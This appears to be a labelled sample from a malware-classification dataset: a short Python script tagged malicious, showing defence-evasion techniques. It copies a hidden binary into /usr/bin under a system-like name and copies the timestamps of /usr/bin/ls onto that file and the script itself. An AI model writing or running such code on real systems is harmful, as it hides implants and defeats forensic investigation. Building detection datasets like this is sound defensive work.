# label: malicious family=evasion techniques=T1070.006,T1036.005 lines=4-6
import os, shutil
ref = os.stat("/usr/bin/ls")
shutil.copy("/tmp/.x/agent", "/usr/bin/dbus-daemon-helper")
os.utime("/usr/bin/dbus-daemon-helper", (ref.st_atime, ref.st_mtime))
os.utime(__file__, (ref.st_atime, ref.st_mtime))
